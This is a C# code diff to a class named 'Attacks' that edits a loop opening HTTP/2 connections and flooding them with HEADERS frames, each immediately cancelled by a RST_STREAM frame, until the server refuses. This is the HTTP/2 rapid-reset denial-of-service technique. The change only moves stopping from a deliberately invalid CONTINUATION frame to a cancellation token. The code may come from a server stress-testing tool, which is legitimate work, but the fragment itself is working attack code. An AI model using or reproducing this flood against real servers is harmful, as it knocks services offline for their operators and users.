@@ -63,9 +63,16 @@ internal static class Attacks
         while (!stop.IsCancellationRequested)
         {
             using var client = await Http2Frames.OpenAsync(address);
-            await client.SendUntilRefusedAsync(i => stop.IsCancellationRequested
-                ? Http2Frames.Frame(Http2Frames.Continuation, 0, 1, []) // no frame may come here, so it ends
-                : [.. Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, (2 * i) + 1, request), .. Http2Frames.Frame(Http2Frames.Reset, 0, (2 * i) + 1, [0, 0, 0, 8])]);
+            try
+            {
+                await client.SendUntilRefusedAsync(
+                    i => [.. Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, (2 * i) + 1, request), .. Http2Frames.Frame(Http2Frames.Reset, 0, (2 * i) + 1, [0, 0, 0, 8])],
+                    stop.Token);
+            }
+            catch (OperationCanceledException)
+            {
+                // Its time is over.
+            }
         }
     }
 
